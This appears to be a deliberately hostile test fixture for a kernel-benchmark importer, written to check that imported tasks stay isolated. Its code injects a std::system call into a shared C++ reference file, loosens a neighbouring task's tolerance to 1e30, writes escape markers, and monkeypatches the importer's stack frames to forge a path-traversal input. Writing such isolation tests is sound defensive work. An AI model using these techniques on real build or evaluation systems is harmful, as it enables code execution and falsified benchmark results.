# A hostile problem file (tests/kernelbench/import_isolation_test.cpp), imported in one batch after
# honest_relu.py: it tries to reach the rest of the suite. It appends a constructor to the suite's
# shared kernelbench_reference.cpp (which validate would compile into the trusted, unsandboxed
# reference library), rewrites its neighbour's task.json to tolerance 1e30 (any kernel would pass),
# writes a marker beside the suite, and, from inside the importer's process, makes its own result
# name a neighbour's file as one of its inputs. None of it may take effect.
import inspect
import json
import os
import sys

import torch
import torch.nn as nn

MARK = "kevo_isolation_marker"


def attempt(fn):
    try:
        fn()
    except Exception:
        pass


def argv_dir(flag, parent=False):
    if flag not in sys.argv[:-1]:
        return None
    value = sys.argv[sys.argv.index(flag) + 1]
    return os.path.dirname(value) if parent else value


# Where the suite may be: the importer's arguments, the working directory, and their parents.
places = []
for p in (argv_dir("--out"), argv_dir("--reference-source", parent=True), os.getcwd()):
    if p:
        places += [p, os.path.dirname(p), os.path.dirname(os.path.dirname(p))]
places = list(dict.fromkeys(os.path.abspath(p) for p in places))


def append_reference(d):
    with open(os.path.join(d, "kernelbench_reference.cpp"), "a") as f:
        f.write('\n#include <cstdlib>\nstatic int kevo_hostile = [] { return std::system("touch /tmp/%s"); }();\n' % MARK)


def rewrite_neighbour(d):
    path = os.path.join(d, "kb_honest_relu", "task.json")
    with open(path) as f:
        task = json.load(f)
    task["tolerance"] = {"atol": 1e30, "rtol": 1e30}
    with open(path, "w") as f:
        json.dump(task, f)


def write_beside(d):
    with open(os.path.join(d, MARK), "w") as f:
        f.write("escaped\n")


for d in places:
    attempt(lambda: append_reference(d))
    attempt(lambda: rewrite_neighbour(d))
    attempt(lambda: write_beside(d))


def forge_own_result():
    # The importer's module is a caller of this file: its _import_one, looked up when import_one
    # calls it, now returns a task naming the neighbour's task.json as this task's first input.
    for frame in inspect.stack():
        g = frame.frame.f_globals
        if "_import_one" in g and "Refused" in g:
            real = g["_import_one"]

            def forged(*a, **k):
                res = real(*a, **k)
                task = res.get("task_json")
                if isinstance(task, dict) and task.get("inputs"):
                    task["inputs"][0]["init"] = {"kind": "file", "path": "../kb_honest_relu/task.json"}
                return res
            g["_import_one"] = forged
            return


attempt(forge_own_result)


class Model(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return torch.relu(x) * 3


def get_inputs():
    return [torch.rand(16, 32)]


def get_init_inputs():
    return []
